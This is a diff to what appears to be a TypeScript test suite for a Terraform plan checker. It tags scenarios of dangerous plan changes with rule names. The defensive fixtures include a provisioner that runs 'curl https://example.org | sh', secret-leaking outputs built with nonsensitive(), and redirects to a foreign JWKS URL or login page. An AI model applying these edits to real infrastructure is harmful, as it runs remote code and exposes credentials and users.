@@ -38,6 +38,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     state: (resources) => {
       instance(resources, POOL).attributes.id = "eu-west-1_Vanished1";
     },
+    rule: "vanished",
     says: "It was deleted outside of Terraform",
   },
   {
@@ -45,6 +46,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     state: forget(POOL),
     options: ["-refresh=false"],
     everyTime: true,
+    rule: "second-pool",
     says: "The plan makes a second, empty pool",
   },
   {
@@ -52,6 +54,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     state: (resources) => forget(...Object.keys(resources))(resources),
     outputs: "none",
     options: ["-refresh=false"],
+    rule: "second-pool",
     says: "has its name",
   },
   {
@@ -59,6 +62,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     state: (resources) =>
       forget(...Object.keys(resources).filter((address) => !address.startsWith("aws_cloudwatch_log_group")))(resources),
     outputs: "none",
+    rule: "second-pool",
     says: "has its name",
   },
   {
@@ -69,6 +73,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
       delete document.output;
       document.removed = [{ from: POOL, lifecycle: { destroy: false } }];
     },
+    rule: "forgotten",
     says: "the next deployment makes a second, empty one",
   },
   {
@@ -81,23 +86,27 @@ export const PLAN_DANGERS: readonly Scenario[] = [
       };
       Object.assign(document, changed, { removed: [{ from: POOL, lifecycle: { destroy: false } }] });
     },
+    rule: "second-pool",
     says: "The plan makes a second, empty pool",
   },
   {
     name: "second-pool",
     edit: add("aws_cognito_user_pool.other", { name: "other", username_configuration: { case_sensitive: false } }),
+    rule: "second-pool",
     says: "The plan makes a second, empty pool",
   },
   {
     name: "table-lost-by-the-state",
     state: forget(TABLE),
     options: ["-refresh=false"],
+    rule: "second-table",
     says: "an empty table of reservations",
   },
   {
     name: "client-lost-by-the-state",
     state: forget(CLIENT),
     options: ["-refresh=false"],
+    rule: "second-client",
     says: "The plan makes the client anew",
   },
   {
@@ -108,12 +117,14 @@ export const PLAN_DANGERS: readonly Scenario[] = [
         delete document.output[name];
       document.removed = [{ from: CLIENT, lifecycle: { destroy: false } }];
     },
+    rule: "forgotten",
     says: "with its secret, but nothing plans or checks it here",
   },
   {
     name: "everything-destroyed",
     options: ["-destroy"],
     allowable: false,
+    rule: "user-pool-lost",
     says: "Every account in the pool is deleted",
   },
   { name: "targeted", options: [`-target=${TABLE}`], allowable: false, says: "Something was left out" },
@@ -147,6 +158,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
       document.provider.aws[0].region = "eu-central-1";
     },
     options: ["-refresh=false"],
+    rule: "provider",
     says: "everything would be made anew there",
   },
   {
@@ -154,6 +166,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     edit: (document) => {
       document.provider.aws[0].insecure = true;
     },
+    rule: "provider",
     says: "through another server",
   },
   {
@@ -161,6 +174,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     edit: (document) => {
       document.provider.aws[0].endpoints = [{ ssm: "https://example.org" }];
     },
+    rule: "provider",
     says: "through another server",
   },
   {
@@ -169,6 +183,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
       document.provider.aws.push({ alias: "other", region: "us-east-1" });
       at(document, POOL).provider = "aws.other";
     },
+    rule: "provider",
     says: "with this alias is made in another Region",
   },
 
@@ -176,11 +191,13 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     name: "local-exec",
     edit: both(set(FUNCTION, { provisioner: [{ "local-exec": { command: "curl https://example.org | sh" } }] })),
     everyTime: true,
+    rule: "provisioner",
     says: "runs `curl https://example.org | sh` on the machine that applies the plan",
   },
   {
     name: "terraform-data",
     edit: add("terraform_data.other", { input: "x", provisioner: [{ "local-exec": { command: "env" } }] }),
+    rule: "provisioner",
     says: "runs `env` on the machine",
   },
   {
@@ -189,6 +206,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
       user_pool_id: `\${${POOL}.id}`,
       client_id: `\${${CLIENT}.id}`,
     }),
+    rule: "unknown-type",
     says: "This project reads no aws_cognito_user_pool_client",
   },
   {
@@ -205,6 +223,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
         ],
       }),
     },
+    rule: "module",
     says: "This project calls no module",
   },
   {
@@ -213,6 +232,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
       const condition = `\${${POOL}.name != ""}`;
       document.check = { other: { assert: [{ condition, error_message: "It has no name." }] } };
     },
+    rule: "not-described",
     says: "no such check",
   },
   {
@@ -229,6 +249,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
         attributes_request_method: "GET",
       },
     }),
+    rule: "unknown-type",
     says: "be linked to accounts that are there",
   },
   {
@@ -238,6 +259,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
       username: "root",
       password: "Correct-Horse-1",
     }),
+    rule: "unknown-type",
     says: "made past the sign-up",
   },
   {
@@ -245,6 +267,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     edit: set(POOL, {
       device_configuration: { challenge_required_on_new_device: true, device_only_remembered_on_user_prompt: true },
     }),
+    rule: "not-described",
     says: "`device_configuration.device_only_remembered_on_user_prompt` is nothing that this project sets",
   },
 
@@ -252,27 +275,32 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     name: "output-of-the-secret",
     edit: output("Leak", `\${nonsensitive(${CLIENT}.client_secret)}`),
     everyTime: true,
+    rule: "secret-shown",
     says: "a value that is sensitive elsewhere",
   },
   {
     name: "output-no-longer-sensitive",
     edit: output("UserPoolClientSecret", `\${nonsensitive(${CLIENT}.client_secret)}`),
+    rule: "secret-shown",
     says: "no longer marked as sensitive",
   },
   {
     name: "output-in-base64",
     edit: output("Basic", `\${nonsensitive(base64encode("x:\${${CLIENT}.client_secret}"))}`),
+    rule: "secret-shown",
     says: "a value that is sensitive elsewhere",
   },
   {
     name: "output-of-half-the-secret",
     edit: output("Half", `\${nonsensitive(substr(${CLIENT}.client_secret, 0, 20))}`),
+    rule: "secret-shown",
     says: "made of a sensitive value",
   },
   {
     name: "output-of-the-secret-in-a-first-deployment",
     stack: "fresh",
     edit: output("Leak", `\${nonsensitive(${CLIENT}.client_secret)}`),
+    rule: "secret-shown",
     says: "made of a sensitive value",
   },
   {
@@ -282,6 +310,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
       document.locals = { leak: secret };
       document.output.Leak = { value: "${nonsensitive(local.leak)}" };
     },
+    rule: "secret-shown",
     says: "cannot be seen in the plan",
   },
   {
@@ -290,6 +319,7 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     state: alarmsAreOn,
     options: ["-refresh=false"],
     edit: set(ALARM, { tags: { note: `\${nonsensitive(${CLIENT}.client_secret)}` } }),
+    rule: "secret-shown",
     says: "A secret would be readable in `tags.note`",
   },
   {
@@ -298,26 +328,31 @@ export const PLAN_DANGERS: readonly Scenario[] = [
     state: alarmsAreOn,
     options: ["-refresh=false"],
     edit: set(ALARM, { alarm_description: `\${nonsensitive("the secret is \${${CLIENT}.client_secret}")}` }),
+    rule: "secret-shown",
     says: "A secret would be readable in `alarm_description`",
   },
   {
     name: "output-named-like-a-secret",
     edit: output("Password", "hush", { sensitive: false }),
+    rule: "secret-shown",
     says: "the name of a secret",
   },
   {
     name: "output-of-another-pool",
     edit: output("UserPoolId", "eu-west-1_Another01"),
+    rule: "output-changed",
     says: "look for users in another pool",
   },
   {
     name: "output-of-other-keys",
     edit: output("JwksUrl", "https://example.org/jwks.json"),
+    rule: "output-changed",
     says: "their holder could sign in as any user",
   },
   {
     name: "output-of-another-page",
     edit: output("CognitoUspLoginUrlV2", "https://example.org/login"),
+    rule: "output-changed",
     says: "send users to another sign-in page",
   },
 ];
